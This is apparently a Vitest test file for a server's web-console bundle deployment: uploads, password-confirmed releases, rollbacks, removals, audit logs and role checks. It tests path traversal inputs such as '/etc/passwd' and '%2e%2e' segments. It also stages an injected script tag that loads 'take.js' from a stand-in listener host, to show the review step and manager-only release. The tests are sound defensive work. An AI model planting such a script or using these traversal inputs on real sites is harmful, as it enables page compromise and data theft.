import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { safePath } from '../src/modules/web-config/web-bundle.ts';
import { ADMIN_PASSWORD, createTestApp, loginAdmin, type TestApp } from './helper.ts';
import { makeTenant, type TestTenant } from './message.fixtures.ts';
import { multipart, tarGz } from './web-bundle.fixtures.ts';

describe('console versions (/out-web deploy/web)', () => {
  let t: TestApp;
  let admin: string;
  let tenant: TestTenant;
  const upload = (version: string, bundle: Buffer, auth = admin) => {
    const m = multipart(bundle);
    return t.app.inject({
      method: 'POST',
      url: `/v1/out-web/deploy/web/save?version=${encodeURIComponent(version)}`,
      payload: m.payload,
      headers: { ...m.headers, authorization: auth },
    });
  };
  const post = (url: string, payload?: object, auth = admin) =>
    t.app.inject({ method: 'POST', url: `/v1${url}`, headers: { authorization: auth }, ...(payload ? { payload } : {}) });
  const release = (id: string, auth = admin, password = ADMIN_PASSWORD) => post('/out-web/deploy/web/release', { id, password }, auth);
  const page = async (url = '/') => t.app.inject({ method: 'GET', url });
  const BUILT = '<!doctype html>\n<html>\n<head><title>Built with the server</title></head>\n<body></body>\n</html>\n';
  const webDir = fs.mkdtempSync(path.join(os.tmpdir(), 'lh-web-'));
  fs.writeFileSync(path.join(webDir, 'index.html'), BUILT);

  beforeAll(async () => {
    t = await createTestApp({ webDir });
    admin = await loginAdmin(t.app);
    tenant = await makeTenant(t.app, t.database);
  });
  afterAll(async () => {
    await t?.close();
    fs.rmSync(webDir, { recursive: true, force: true });
  });

  it('checks a bundle’s paths: nothing leaves the bundle', () => {
    expect(safePath('assets/app-1.js')).toBe('assets/app-1.js');
    expect(safePath('./index.html')).toBe('index.html');
    for (const bad of ['../x', 'a/../../x', '/etc/passwd', 'a\\b', 'C:/x', 'a//b', 'a/./b']) expect(() => safePath(bad), bad).toThrow();
  });

  it('refuses bundles that are no console, that escape their folder, or come from anyone but a system manager', async () => {
    expect((await upload('bad1', Buffer.from('not a gzip'))).json().code).toBe('web.bad-bundle');
    expect((await upload('bad2', tarGz({ 'readme.txt': 'x' }))).json().code).toBe('web.bad-bundle');
    const leaving = await upload('bad3', tarGz({ 'index.html': 'ok', '../../evil.js': 'x' }));
    expect(leaving.statusCode).toBe(400);
    expect(leaving.json().code).toBe('web.bad-bundle');
    expect((await upload('v0', tarGz({ 'index.html': 'x' }), tenant.manager.auth)).statusCode).toBe(403);
    expect((await t.app.inject({ method: 'GET', url: '/v1/out-web/deploy/web/list', headers: { authorization: admin } })).json()).toEqual(
      [],
    );
  });

  it('serves a released version at once, and a rollback serves the one before again', async () => {
    const before = await page('/');
    const a = await upload(
      '1.0.0',
      tarGz({ 'dist/index.html': '<title>Console A</title>', 'dist/assets/app-aaaaaaaa.js': 'console.log("A")' }),
    );
    expect(a.statusCode, a.body).toBe(201);
    expect(a.json()).toMatchObject({ version: '1.0.0', file_count: 2, released: false });
    // uploaded, not released: nothing changes
    expect((await page('/')).body).toBe(before.body);
    expect((await upload('1.0.0', tarGz({ 'index.html': 'again' }))).json().code).toBe('web.version-exists');

    const released = await release(a.json().id);
    expect(released.json()).toMatchObject({ version: '1.0.0', released: true });
    const home = await page('/');
    expect(home.body).toBe('<title>Console A</title>');
    expect(home.headers['content-type']).toMatch(/text\/html/);
    // a page address of the single-page console is its index; its files are served as they are
    expect((await page('/Container/HomePage')).body).toBe('<title>Console A</title>');
    const js = await page('/assets/app-aaaaaaaa.js');
    expect(js.body).toBe('console.log("A")');
    expect(js.headers['cache-control']).toContain('immutable');
    expect((await page('/assets/missing-00000000.js')).statusCode).toBe(404);
    // dot segments never leave the console: the address resolves inside it (a page: the index)
    expect((await page('/%2e%2e/%2e%2e/etc/passwd')).body).toBe('<title>Console A</title>');
    expect((await page('/assets/%2e%2e/%2e%2e/package.json')).statusCode).toBe(404);
    // the API is not the console's
    expect((await t.app.inject({ method: 'GET', url: '/v1/health' })).statusCode).not.toBe(404);

    const b = await upload('1.1.0', tarGz({ 'index.html': '<title>Console B</title>' }));
    await release(b.json().id);
    expect((await page('/')).body).toBe('<title>Console B</title>');
    expect((await post('/out-web/deploy/web/remove', undefined)).statusCode).toBe(404);

    const back = await post('/out-web/deploy/web/rollback');
    expect(back.json()).toMatchObject({ version: '1.0.0', released: true });
    expect((await page('/')).body).toBe('<title>Console A</title>');
    // Before the first release: the console built with the server.
    const toBuilt = await post('/out-web/deploy/web/rollback');
    expect(toBuilt.statusCode, toBuilt.body).toBe(200);
    expect(toBuilt.json()).toBeNull();
    expect((await page('/')).body).toBe(BUILT);
    expect((await post('/out-web/deploy/web/rollback')).json().code).toBe('web.no-previous');
    await release(a.json().id);

    const removed = await t.app.inject({
      method: 'DELETE',
      url: `/v1/out-web/deploy/web/remove?id=${b.json().id}`,
      headers: { authorization: admin },
    });
    expect(removed.statusCode).toBe(204);
    const list = (await t.app.inject({ method: 'GET', url: '/v1/out-web/deploy/web/list', headers: { authorization: admin } })).json();
    expect(list.map((v: { version: string; released: boolean }) => [v.version, v.released])).toEqual([['1.0.0', true]]);
    const logs = (await t.app.inject({ method: 'GET', url: '/v1/out-web/log/list', headers: { authorization: admin } })).json();
    expect(logs.map((l: { action: string; version: string }) => `${l.action} ${l.version}`).sort()).toEqual(
      [
        'upload 1.0.0',
        'release 1.0.0',
        'upload 1.1.0',
        'release 1.1.0',
        'rollback 1.0.0',
        'rollback (built-in)',
        'release 1.0.0',
        'remove 1.1.0',
      ].sort(),
    );
    expect(logs.every((l: { username: string }) => l.username === 'admin')).toBe(true);
  });

  it('takes bundles made by tar as docs/web-deploy.md says, folder entries and all (`./`, `assets/`)', async () => {
    const work = fs.mkdtempSync(path.join(os.tmpdir(), 'lh-tar-'));
    try {
      const dist = path.join(work, 'dist');
      fs.mkdirSync(path.join(dist, 'assets'), { recursive: true });
      fs.writeFileSync(path.join(dist, 'index.html'), '<title>made by tar</title>');
      fs.writeFileSync(path.join(dist, 'assets', 'app-0badc0de.js'), 'console.log("tar")');
      // The documented recipe, run as written, and the shell's `*` of the same folder.
      execFileSync('sh', ['-c', 'cd dist && tar czf ../console.tar.gz .'], { cwd: work });
      execFileSync('sh', ['-c', 'tar czf ../star.tar.gz *'], { cwd: dist });
      const entries = (f: string) => execFileSync('tar', ['tzf', path.join(work, f)], { encoding: 'utf8' }).split('\n');
      expect(entries('console.tar.gz')).toEqual(expect.arrayContaining(['./', './assets/', './index.html']));
      expect(entries('star.tar.gz')).toEqual(expect.arrayContaining(['assets/', 'index.html']));
      for (const [version, file] of [
        ['tar-dot', 'console.tar.gz'],
        ['tar-star', 'star.tar.gz'],
      ]) {
        const res = await upload(version, fs.readFileSync(path.join(work, file)));
        expect(res.statusCode, `${file}: ${res.body}`).toBe(201);
        expect(res.json()).toMatchObject({ version, file_count: 2 });
        const review = (
          await t.app.inject({ method: 'GET', url: `/v1/out-web/deploy/web/review?id=${res.json().id}`, headers: { authorization: admin } })
        ).json();
        expect(review.files.map((f: { path: string }) => f.path)).toEqual(['assets/app-0badc0de.js', 'index.html']);
        await t.app.inject({
          method: 'DELETE',
          url: `/v1/out-web/deploy/web/remove?id=${res.json().id}`,
          headers: { authorization: admin },
        });
      }
      // A folder entry is held to the same rules as a file's path.
      for (const bad of ['../', '/', 'a/../../'])
        expect((await upload('bad-dir', tarGz({ [bad]: '', 'index.html': 'x' }))).json().code, bad).toBe('web.bad-bundle');
    } finally {
      fs.rmSync(work, { recursive: true, force: true });
    }
  });

  it('lets a web-deploy user stage a version and only a system manager serve it, entering the password again', async () => {
    const DEPLOY_PASSWORD = 'Deploy-Pass-42';
    expect((await post('/out-web/user/create', { username: 'stager', password: DEPLOY_PASSWORD })).statusCode).toBe(201);
    const stager = `Bearer ${(await post('/out-web/user/login', { username: 'stager', password: DEPLOY_PASSWORD })).json().token}`;
    const legit = await upload('legit-1', tarGz({ 'index.html': '<html>\n<title>Legit</title>\n</html>', 'robots.txt': 'User-agent: *' }));
    await release(legit.json().id);
    expect((await page('/')).body).toContain('Legit');

    // The web-deploy user uploads (stages) a version: nothing is served from it.
    const EVIL = '<script src="https://listener.example/take.js"></script>';
    const staged = await upload(
      'staged-1',
      tarGz({ 'index.html': `<html>\n${EVIL}\n</html>`, 'assets/extra.js': 'x', 'robots.txt': 'User-agent: *' }),
      stager,
    );
    expect(staged.statusCode, staged.body).toBe(201);
    const id = staged.json().id as string;

    // Whatever changes what the console's origin serves is a system manager's: not a web-deploy
    // user's (with its own password or not), not a tenant manager's.
    const changes: [string, (auth: string) => Promise<{ statusCode: number; json: () => { code: string } }>][] = [
      ['release', (auth) => release(id, auth, DEPLOY_PASSWORD)],
      ['rollback', (auth) => post('/out-web/deploy/web/rollback', undefined, auth)],
      ['built-in', (auth) => post('/out-web/deploy/web/built-in', undefined, auth)],
      [
        'remove the served',
        (auth) =>
          t.app.inject({ method: 'DELETE', url: `/v1/out-web/deploy/web/remove?id=${legit.json().id}`, headers: { authorization: auth } }),
      ],
    ];
    for (const [what, change] of changes) {
      const refused = await change(stager);
      expect(refused.statusCode, what).toBe(403);
      expect(refused.json().code, what).toBe('web.manager-only');
      expect((await change(tenant.manager.auth)).statusCode, what).toBe(403);
      expect((await page('/')).body, what).toContain('Legit');
    }
    // It may remove what it staged, while it is not served.
    const spare = await upload('staged-2', tarGz({ 'index.html': 'spare' }), stager);
    const removeSpare = await t.app.inject({
      method: 'DELETE',
      url: `/v1/out-web/deploy/web/remove?id=${spare.json().id}`,
      headers: { authorization: stager },
    });
    expect(removeSpare.statusCode).toBe(204);

    // Before releasing, the system manager sees the files, who uploaded them and what changes in index.html.
    const review = await t.app.inject({ method: 'GET', url: `/v1/out-web/deploy/web/review?id=${id}`, headers: { authorization: admin } });
    expect(review.statusCode, review.body).toBe(200);
    expect(review.json()).toMatchObject({
      version: { version: 'staged-1', released: false },
      uploaded_by: { username: 'stager', role: 'web-deploy' },
      served: { version: 'legit-1' },
    });
    // Each file against the ones served now: new, changed or the same.
    expect(review.json().files.map((f: { path: string; bytes: number; change: string }) => [f.path, f.bytes, f.change])).toEqual([
      ['assets/extra.js', 1, 'added'],
      ['index.html', `<html>\n${EVIL}\n</html>`.length, 'changed'],
      ['robots.txt', 'User-agent: *'.length, 'same'],
    ]);
    expect(review.json().index_diff).toEqual([
      { op: '=', line: '<html>' },
      { op: '-', line: '<title>Legit</title>' },
      { op: '+', line: EVIL },
      { op: '=', line: '</html>' },
    ]);

    // The password is entered again: missing or wrong, nothing is released.
    expect((await post('/out-web/deploy/web/release', { id })).statusCode).toBe(400);
    const wrong = await release(id, admin, 'Not-The-Password-1');
    expect(wrong.statusCode).toBe(400);
    expect(wrong.json().code).toBe('auth.password-error');
    expect((await page('/')).body).toContain('Legit');
    const ok = await release(id);
    expect(ok.statusCode, ok.body).toBe(200);
    expect((await page('/')).body).toContain(EVIL);

    // Back to the console built with the server: one action, from any release.
    const builtIn = await post('/out-web/deploy/web/built-in');
    expect(builtIn.statusCode, builtIn.body).toBe(204);
    expect((await page('/')).body).toBe(BUILT);
    const info = await t.app.inject({ method: 'GET', url: '/v1/out-web/deploy/web/info', headers: { authorization: admin } });
    expect(info.json()).toBeNull();
    // Compared with the built console while that is served.
    const against = (
      await t.app.inject({ method: 'GET', url: `/v1/out-web/deploy/web/review?id=${legit.json().id}`, headers: { authorization: admin } })
    ).json();
    expect(against.served).toBeNull();
    // The built console's files are what it is compared with (it has an index.html only).
    expect(against.files.map((f: { path: string; change: string }) => [f.path, f.change])).toEqual([
      ['index.html', 'changed'],
      ['robots.txt', 'added'],
    ]);
    expect(against.index_diff.filter((d: { op: string }) => d.op === '-').map((d: { line: string }) => d.line)).toEqual(
      BUILT.trimEnd()
        .split('\n')
        .filter((l) => !['<html>', '</html>'].includes(l)),
    );

    // A released version can be removed: the console built with the server is served.
    await release(id);
    expect((await page('/')).body).toContain(EVIL);
    const removed = await t.app.inject({
      method: 'DELETE',
      url: `/v1/out-web/deploy/web/remove?id=${id}`,
      headers: { authorization: admin },
    });
    expect(removed.statusCode, removed.body).toBe(204);
    expect((await page('/')).body).toBe(BUILT);
    const logs = (await t.app.inject({ method: 'GET', url: '/v1/out-web/log/list', headers: { authorization: admin } })).json();
    expect(
      logs
        .filter((l: { action: string }) => ['built-in', 'remove'].includes(l.action))
        .map((l: { action: string; version: string; username: string }) => [l.action, l.version, l.username]),
    ).toEqual(
      expect.arrayContaining([
        ['built-in', '(built-in)', 'admin'],
        ['remove', 'staged-1', 'admin'],
        ['remove', 'staged-2', 'stager'],
      ]),
    );
  });
});
